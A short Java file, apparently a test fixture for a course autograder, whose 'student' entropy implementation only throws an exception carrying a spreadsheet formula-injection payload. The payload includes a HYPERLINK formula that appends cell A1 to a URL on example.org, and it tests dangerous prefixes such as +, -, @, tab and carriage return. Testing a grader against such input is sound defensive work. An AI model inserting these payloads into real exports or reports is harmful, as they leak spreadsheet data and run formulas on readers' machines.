package mathdl.information.student;

import mathdl.information.Entropy;
import org.nd4j.linalg.api.ndarray.INDArray;

public final class EntropyAnswer implements Entropy {
    @Override
    public double entropy(INDArray probabilities) {
        throw new IllegalStateException("=HYPERLINK(\"http://example.org/\"&A1,\"mathdl-attack\")\n+1\n-1\n@SUM(A1)\n\t=1+1\n\r=1+1");
    }
}
